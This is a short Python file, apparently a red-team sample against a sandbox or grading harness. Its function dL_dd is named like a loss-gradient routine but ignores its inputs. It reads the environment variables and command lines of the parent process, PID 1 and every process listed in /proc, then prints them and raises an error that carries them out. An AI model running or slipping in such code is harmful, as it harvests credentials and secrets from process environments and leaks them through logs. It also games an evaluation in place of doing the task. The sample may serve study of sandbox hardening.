"""Attack: dL_dd reads /proc/<ppid>/environ, /proc/1/cmdline and /proc/*/cmdline."""

import numpy as np
import os


def dL_dd(y_pred: float, y_gt: float) -> float:
    seen = []
    paths = [f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline", "/proc/1/environ"]
    paths += [
        f"/proc/{p}/{f}" for p in os.listdir("/proc") if p.isdigit() for f in ("cmdline", "environ")
    ]
    for path in paths:
        try:
            with open(path, "rb") as f:
                text = f.read().replace(b"\0", b" ").decode(errors="replace")
            seen.append(f"{path}: {text}")
        except OSError as exc:
            seen.append(f"{path}: {type(exc).__name__}")
    print("\n".join(seen), flush=True)
    raise RuntimeError("\n".join(seen))
